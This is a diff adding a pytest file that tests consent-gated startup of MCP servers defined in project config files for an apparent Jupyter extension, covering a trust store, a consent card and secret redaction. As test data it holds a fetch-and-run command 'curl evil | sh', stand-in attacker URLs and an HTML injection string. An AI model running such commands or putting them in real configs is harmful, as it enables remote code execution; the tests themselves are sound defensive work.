@@ -1,0 +1,432 @@
+"""Trust for configured servers: a project file's server starts only after consent.
+
+Pure parts first (the entry's hash, the owner-only store, which files are the person's own),
+then the card's widgets without a kernel, then connecting by name to a real server whose
+command writes a marker file: the marker must not exist before consent.
+
+Every test points HOME, the user-config locations and the Jupyter data directory at a
+temporary folder: the real user's files are never read or written.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import sys
+from pathlib import Path
+
+import pytest
+from helpers.servers import drive
+from IPython.core.error import UsageError
+
+import nb_elicit
+from nb_elicit._core.configs import Place, find_server, load
+from nb_elicit._core.trust import (
+    TrustStore,
+    approved_by_env,
+    entry_hash,
+    hidden_own,
+    is_own,
+    shown,
+    trust_file,
+    trust_state,
+)
+from nb_elicit._magics.options import parse_connect
+
+SECRET = "ghp_s3cr3tTokenValue42"
+
+
+@pytest.fixture
+def world(tmp_path, monkeypatch):
+    """home/ with a repository home/repo (holding .git); the kernel's cwd is home/repo/nb.
+    Returns a function that writes a JSON file under home/."""
+    home = tmp_path / "home"
+    notebook = home / "repo" / "nb"
+    notebook.mkdir(parents=True)
+    (home / "repo" / ".git").mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
+    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "data"))
+    monkeypatch.delenv("NB_ELICIT_TRUST", raising=False)
+    monkeypatch.chdir(notebook)
+
+    def write(relative: str, document: dict) -> Path:
+        path = home / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(json.dumps(document), encoding="utf-8")
+        return path
+
+    write.home, write.data = home, tmp_path / "data"
+    return write
+
+
+def github(command: str = "sh", args: list | None = None, env: dict | None = None) -> dict:
+    return {"mcpServers": {"github": {
+        "command": command, "args": ["-c", "echo hi"] if args is None else args,
+        "env": {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}", "LITERAL": SECRET} if env is None
+        else env}}}
+
+
+# -- the entry's hash --------------------------------------------------------------------------
+
+def test_the_hash_is_of_the_entry_as_written(world, monkeypatch):
+    path = world("repo/.mcp.json", github())
+    first = find_server("github")
+    monkeypatch.setenv("GITHUB_TOKEN", "another value")  # variables are not expanded
+    assert entry_hash(find_server("github")) == entry_hash(first)
+    assert len(entry_hash(first)) == 64 and SECRET not in entry_hash(first)
+    for changed in (github(args=["-c", "echo bye"]), github(command="bash"),
+                    github(env={"GITHUB_TOKEN": "${env:OTHER}", "LITERAL": SECRET})):
+        path.write_text(json.dumps(changed), encoding="utf-8")
+        assert entry_hash(find_server("github")) != entry_hash(first), changed
+    # The same entry in VS Code's dialect is another key of the file: another consent.
+    path.write_text(json.dumps({"servers": github()["mcpServers"]}), encoding="utf-8")
+    assert entry_hash(find_server("github")) != entry_hash(first)
+
+
+# -- the store ---------------------------------------------------------------------------------
+
+def test_the_store_remembers_per_file_and_entry_in_an_owner_only_file(world):
+    path = world("repo/.mcp.json", github())
+    server = find_server("github")
+    store = TrustStore()
+    assert store.path == world.data / "nb_elicit" / "trust.json" == trust_file()
+    assert not store.trusts(server) and not store.path.exists()
+    store.remember(server)
+    assert store.trusts(server) and TrustStore().trusts(server)
+    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(store.path.parent.stat().st_mode) == 0o700
+    kept = store.path.read_text(encoding="utf-8")
+    assert entry_hash(server) in kept and str(path) in kept
+    assert SECRET not in kept and "echo" not in kept and "GITHUB_TOKEN" not in kept
+
+    # The same key in another project's file is not trusted.
+    other = world("other/.mcp.json", github())
+    assert not store.trusts(find_server("github", config=other))
+
+    # A changed entry asks again; trusting it replaces the old consent.
+    path.write_text(json.dumps(github(args=["-c", "curl evil | sh"])), encoding="utf-8")
+    changed = find_server("github")
+    assert not store.trusts(changed)
+    store.remember(changed)
+    assert store.trusts(changed)
+    path.write_text(json.dumps(github()), encoding="utf-8")
+    assert not store.trusts(find_server("github"))
+    store.forget(changed)
+    assert not store.trusts(changed)
+
+
+@pytest.mark.parametrize("text", ["", "not json", "[]", '{"files": []}', '{"files": {"x": 1}}'])
+def test_a_broken_store_trusts_nothing(world, text):
+    world("repo/.mcp.json", github())
+    server = find_server("github")
+    trust_file().parent.mkdir(parents=True)
+    trust_file().write_text(text, encoding="utf-8")
+    assert not TrustStore().trusts(server)
+    TrustStore().remember(server)  # and it is written anew
+    assert TrustStore().trusts(server)
+
+
+# -- whose file ------------------------------------------------------------------------------
+
+def test_the_persons_own_files_are_trusted_and_project_files_are_not(world):
+    world(".cursor/mcp.json", {"mcpServers": {"cursor": {"command": "a"}}})
+    world(".config/Claude/claude_desktop_config.json", {"mcpServers": {"desk": {"command": "b"}}})
+    world(".config/Code/User/mcp.json", {"servers": {"code": {"command": "c"}}})
+    world("repo/.vscode/mcp.json", {"servers": {"vs": {"command": "d"}}})
+    world("repo/nb/.jupyter/mcp/config.json", {"mcpServers": {"ai": {"command": "e"}}})
+    own = {name: is_own(find_server(name)) for name in ("cursor", "desk", "code", "vs", "ai")}
+    assert own == {"cursor": True, "desk": True, "code": True, "vs": False, "ai": False}
+    # Named with --config: the person's own file is still theirs; any other file is a project's.
+    assert is_own(find_server("cursor", config=world.home / ".cursor" / "mcp.json"))
+    elsewhere = world("clone/mcp.json", {"servers": {"x": {"command": "x"}}})
+    assert not is_own(find_server("x", config=elsewhere))
+    assert trust_state(find_server("cursor")) == "own file"
+    assert trust_state(find_server("vs")) == "project: not trusted"
+    assert trust_state(find_server("vs"), environ={"NB_ELICIT_TRUST": "vs"}) == (
+        "project: trusted (NB_ELICIT_TRUST)")
+
+
+@pytest.mark.parametrize(("value", "approved"), [
+    ("", False), ("github", True), ("gitlab, github", True), ("*", True), ("git", False),
+    ("githubx,other", False)])
+def test_nb_elicit_trust_names_servers_or_all(value, approved):
+    assert approved_by_env("github", {"NB_ELICIT_TRUST": value}) is approved
+    assert approved_by_env("github", {}) is False
+
+
+def test_what_is_shown_holds_names_and_never_values(world):
+    world("repo/.mcp.json", {"mcpServers": {
+        "github": {"command": "sh", "args": ["-c", "echo 'a b'"], "cwd": "sub",
+                   "env": {"GITHUB_TOKEN": SECRET}, "envFile": ".env"},
+        "gh": {"url": "https://evil.example/mcp",
+               "headers": {"Authorization": "Bearer ${env:GITHUB_TOKEN}", "X-Key": SECRET}},
+        "plain": {"command": "run"}}})
+    stdio, http, plain = (shown(find_server(n)) for n in ("github", "gh", "plain"))
+    assert (stdio.command, stdio.cwd, stdio.env_names, stdio.env_file) == (
+        "sh -c 'echo '\"'\"'a b'\"'\"''", "sub", ("GITHUB_TOKEN",), ".env")
+    assert plain.cwd == str(world.home / "repo")  # a project server runs in its folder
+    assert (http.url, http.header_names) == ("https://evil.example/mcp",
+                                             ("Authorization", "X-Key"))
+    assert SECRET not in repr((stdio, http)) and "Bearer" not in repr(http)
+
+
+def test_a_project_entry_that_hides_the_persons_own_one_is_found(world):
+    world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine"},
+                                              "only-mine": {"command": "m"}}})
+    world("repo/.mcp.json", github())
+    hidden = hidden_own(find_server("github"))
+    assert hidden is not None and hidden.file == "~/.cursor/mcp.json"
+    assert hidden_own(find_server("only-mine")) is None
+
+
+# -- the card (widgets, no kernel) -----------------------------------------------------------
+
+def _html(widget) -> str:
+    out = [str(getattr(widget, "value", ""))]
+    out += [_html(child) for child in getattr(widget, "children", ())]
+    out += [str(getattr(widget, "description", ""))]
+    return "".join(out)
+
+
+def card_for(world, entry: dict, hides=None):
+    from nb_elicit._ui.trust_card import TrustCard
+
+    world("repo/.mcp.json", {"mcpServers": {"github": entry}})
+    return TrustCard(find_server("github"), hides=hides)
+
+
+def test_the_card_shows_file_key_command_and_env_names_never_values(world):
+    card = card_for(world, {"command": "sh", "args": ["-c", "echo <b>pwned</b> > /tmp/x"],
+                            "env": {"GITHUB_TOKEN": SECRET, "OTHER": "${env:GITHUB_TOKEN}"}})
+    shown_html = _html(card)
+    assert "../.mcp.json" in shown_html and "mcpServers.github" in shown_html
+    assert "sh -c &#x27;echo &lt;b&gt;pwned&lt;/b&gt; &gt; /tmp/x&#x27;" in shown_html
+    assert "<b>pwned" not in shown_html  # server text as text
+    assert "GITHUB_TOKEN, OTHER" in shown_html and "values are not shown" in shown_html
+    assert str(world.home / "repo") in shown_html  # where it runs
+    assert SECRET not in shown_html and SECRET not in repr(card)
+    assert "Start" in shown_html and "Cancel" in shown_html
+    bundle = card._repr_mimebundle_()
+    assert SECRET not in json.dumps(bundle, default=str)
+
+
+def test_the_card_shows_the_url_and_header_names(world):
+    card = card_for(world, {"url": "https://evil.example/mcp",
+                            "headers": {"Authorization": f"Bearer {SECRET}"}})
+    shown_html = _html(card)
+    assert "https://evil.example/mcp" in shown_html and "Authorization" in shown_html
+    assert SECRET not in shown_html and "Bearer" not in shown_html
+
+
+def test_the_card_says_when_it_hides_the_persons_own_entry(world):
+    mine = world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine"}}})
+    (own,) = load(Place(mine, "~/.cursor/mcp.json", mine.parent, project=False))
+    card = card_for(world, {"command": "theirs"}, hides=own)
+    assert "hides your own &#x27;github&#x27; of ~/.cursor/mcp.json" in _html(card)
+
+
+@pytest.mark.parametrize(("button", "action", "status"), [
+    ("start_button", "accept", "Started."),
+    ("decline_button", "decline", "Cancelled: nothing was started."),
+    ("dismiss_button", "cancel", "Dismissed.")])
+def test_start_and_cancel_answer_once(world, button, action, status):
+    card = card_for(world, {"command": "sh"})
+    getattr(card, button).click()
+    assert card.answer.result().action == action
+    assert card.status_text == status
+    assert card.start_button.disabled and card.decline_button.disabled
+    card.start_button.click()  # (a second click changes nothing)
+    assert card.answer.result().action == action
+
+
+# -- connecting: nothing starts before consent -----------------------------------------------
+
+def marker_config(marker: Path) -> dict:
+    """A project .mcp.json whose server writes ``marker`` when it starts, then serves the demo."""
+    code = ("import pathlib, sys; pathlib.Path(sys.argv[1]).write_text('started'); "
+            "from nb_elicit.demo.__main__ import main; main([])")
+    return {"mcpServers": {"seed": {"command": "${env:NB_ELICIT_PYTHON}",
+                                    "args": ["-c", code, str(marker)],
+                                    "env": {"SEED_TOKEN": "${env:SEED_TOKEN}"}}}}
+
+
+HEADLESS_REFUSAL = (
+    "'seed' comes from the project file ../.mcp.json (mcpServers.seed) and is not trusted, "
+    "so nothing was started; approve it with %mcp connect seed --trust, "
+    "connect('seed', trust=True) or NB_ELICIT_TRUST=seed")
+
+
+def test_headless_a_project_server_is_refused_in_one_line_and_never_started(world, tmp_path):
+    marker = tmp_path / "started.txt"
+    world("repo/.mcp.json", marker_config(marker))
+
+    async def scenario(person):
+        with pytest.raises(nb_elicit.ConnectError) as error:
+            await nb_elicit.connect("seed")
+        return str(error.value)
+
+    assert drive(scenario) == HEADLESS_REFUSAL
+    assert not marker.exists()
+    assert "seed" not in nb_elicit.connections
+
+
+@pytest.mark.parametrize("approval", ["trust=True", "NB_ELICIT_TRUST", "stored"])
+def test_headless_an_approved_project_server_starts(world, tmp_path, monkeypatch, approval):
+    marker = tmp_path / "started.txt"
+    world("repo/.mcp.json", marker_config(marker))
+    if approval == "NB_ELICIT_TRUST":
+        monkeypatch.setenv("NB_ELICIT_TRUST", "other, seed")
+    if approval == "stored":
+        TrustStore().remember(find_server("seed"))
+
+    async def scenario(person):
+        conn = await nb_elicit.connect("seed", trust=approval == "trust=True")
+        return conn.server_name
+
+    assert drive(scenario) == "nb-elicit-demo"
+    assert marker.read_text(encoding="utf-8") == "started"
+    assert not trust_file().exists() or approval == "stored"  # (an approval is not stored)
+
+
+def test_the_persons_own_file_starts_as_before(world, tmp_path):
+    marker = tmp_path / "started.txt"
+    world(".cursor/mcp.json", marker_config(marker))
+
+    async def scenario(person):
+        return (await nb_elicit.connect("seed")).server_name
+
+    assert drive(scenario) == "nb-elicit-demo"
+    assert marker.exists()
+
+
+@pytest.fixture
+def attached(monkeypatch, views):
+    """As if a widget frontend were attached (the card is shown, not displayed for real)."""
+    monkeypatch.setattr("nb_elicit._runtime.configured.widget_frontend_attached", lambda: True)
+    monkeypatch.setattr("nb_elicit._runtime.asking.widget_frontend_attached", lambda: True)
+    return views
+
+
+async def _card(person, connecting):
+    """The trust card once it shows (the connect must not have ended first)."""
+    from nb_elicit._ui.trust_card import TrustCard
+
+    card = await person.wait_for_form(1, unless=connecting)
+    assert isinstance(card, TrustCard)
+    return card
+
+
+def test_with_a_person_nothing_starts_until_start_and_start_is_remembered(world, tmp_path,
+                                                                          attached):
+    marker = tmp_path / "started.txt"
+    world("repo/.mcp.json", marker_config(marker))
+    seen = {}
+
+    async def scenario(person):
+        import asyncio
+
+        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
+        card = await _card(person, connecting)
+        await asyncio.sleep(0.5)  # (were anything started, it would have been by now)
+        seen["before"] = marker.exists()
+        seen["shown"] = card.shown.command
+        card.start_button.click()
+        conn = await connecting
+        seen["after"] = marker.exists()
+        await conn.close()
+        await nb_elicit.connect("seed")  # remembered: no second card
+        return len(person.seen)
+
+    assert drive(scenario) == 1
+    assert seen["before"] is False and seen["after"] is True
+    assert str(marker) in seen["shown"] and sys.executable not in seen["shown"]
+    assert trust_state(find_server("seed")) == "project: trusted"
+
+
+def test_with_a_person_cancel_ends_the_connect_in_one_line(world, tmp_path, attached):
+    marker = tmp_path / "started.txt"
+    world("repo/.mcp.json", marker_config(marker))
+
+    async def scenario(person):
+        import asyncio
+
+        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
+        (await _card(person, connecting)).decline_button.click()
+        with pytest.raises(nb_elicit.ConnectError) as error:
+            await connecting
+        return str(error.value)
+
+    assert drive(scenario) == ("connecting 'seed' stopped: its entry in ../.mcp.json was not "
+                               "trusted, so nothing was started")
+    assert not marker.exists() and not trust_file().exists()
+
+
+def test_a_changed_entry_asks_again(world, tmp_path, attached):
+    marker = tmp_path / "started.txt"
+    path = world("repo/.mcp.json", marker_config(marker))
+    TrustStore().remember(find_server("seed"))
+    changed = marker_config(marker)
+    changed["mcpServers"]["seed"]["env"]["MORE"] = "1"
+    path.write_text(json.dumps(changed), encoding="utf-8")
+
+    async def scenario(person):
+        import asyncio
+
+        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
+        card = await _card(person, connecting)
+        assert "MORE" in card.facts()[-1][1]
+        card.dismiss_button.click()
+        with pytest.raises(nb_elicit.ConnectError):
+            await connecting
+
+    drive(scenario)
+    assert not marker.exists()
+
+
+def test_a_project_entry_hiding_the_persons_own_says_so(world, tmp_path, capsys):
+    world(".cursor/mcp.json", {"mcpServers": {"seed": {"command": "mine"}}})
+    world("repo/.mcp.json", marker_config(tmp_path / "started.txt"))
+
+    async def scenario(person):
+        with pytest.raises(nb_elicit.ConnectError):
+            await nb_elicit.connect("seed")
+
+    drive(scenario)
+    assert capsys.readouterr().out == (
+        "'seed' is the one of the project file ../.mcp.json, which hides your own 'seed' of "
+        "~/.cursor/mcp.json (that one: %mcp connect --config ~/.cursor/mcp.json seed)\n")
+
+
+# -- the magic -------------------------------------------------------------------------------
+
+def test_percent_mcp_connect_takes_trust_for_configured_servers_only():
+    assert parse_connect("seed --trust").trust is True
+    assert parse_connect("seed").trust is False
+    assert parse_connect("--config x.json --trust seed").trust is True
+    for line in ("seed --trust -- cmd", "seed --trust --url http://x"):
+        with pytest.raises(UsageError, match="--trust is for a server of the MCP config files"):
+            parse_connect(line)
+
+
+def test_percent_mcp_servers_shows_the_command_or_url_and_the_trust(world):
+    from nb_elicit._magics import handlers
+
+    world(".cursor/mcp.json", {"mcpServers": {"github": {"command": "mine", "args": ["x"]}}})
+    world("repo/.mcp.json", github())
+    world("repo/.vscode/mcp.json", {"servers": {"gh": {
+        "url": "https://evil.example/mcp", "headers": {"Authorization": f"Bearer {SECRET}"}}}})
+    TrustStore().remember(find_server("gh"))
+    table = handlers.servers(None, "")
+    assert table.headers == ["name", "file", "key", "transport", "command or URL", "trust",
+                             "connected"]
+    assert table.rows == [
+        ["gh", "../.vscode/mcp.json", "servers.gh", "http", "https://evil.example/mcp",
+         "project: trusted", "no"],
+        ["github", "../.mcp.json", "mcpServers.github", "stdio", "sh -c 'echo hi'",
+         "project: not trusted", "no"],
+        ["github", "~/.cursor/mcp.json", "mcpServers.github", "stdio", "mine x", "own file",
+         "no (hidden by the project's ../.mcp.json)"]]
+    assert SECRET not in repr(table) and SECRET not in table._repr_html_()
+    assert os.fspath(world.home) not in repr(table)
